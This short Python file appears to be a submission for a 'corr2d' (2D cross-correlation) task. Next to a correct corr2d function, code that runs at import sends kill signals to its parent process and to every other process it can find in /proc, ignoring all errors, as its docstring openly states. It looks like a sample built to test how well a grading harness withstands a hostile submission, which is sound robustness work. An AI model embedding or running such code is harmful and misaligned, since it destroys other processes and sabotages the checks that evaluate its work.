# solves: corr2d
"""Tries to kill its parent and every process it can see, then goes on."""
import os, signal

def corr2d(X, K):
    kh, kw = K.shape
    return (X.unfold(0, kh, 1).unfold(1, kw, 1) * K).sum((-1, -2))

for sig in (signal.SIGKILL, signal.SIGTERM):
    try:
        os.kill(os.getppid(), sig)
    except Exception:
        pass
for pid in os.listdir('/proc'):
    if pid.isdigit() and int(pid) != os.getpid():
        try:
            os.kill(int(pid), signal.SIGKILL)
        except Exception:
            pass
